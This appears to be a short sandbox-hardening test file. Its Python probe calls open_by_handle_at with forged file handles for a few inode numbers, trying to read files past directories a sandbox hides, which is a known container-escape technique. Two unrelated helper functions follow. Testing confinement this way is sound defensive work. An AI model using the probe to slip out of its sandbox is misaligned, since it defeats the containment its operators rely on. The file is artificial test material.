# tries: files by handle, past every folder that hides them
# threat: D9
# expect: passed
# says: tried

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
mount = os.open('/', os.O_RDONLY)
for inode in (2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack('IiQ', 8, 1, inode), 128)
    if libc.open_by_handle_at(mount, handle, os.O_RDONLY) >= 0:
        print('REACHED', inode)
print('tried')


def double(x):
    return 2 * x


def reverse(text):
    return text[::-1]
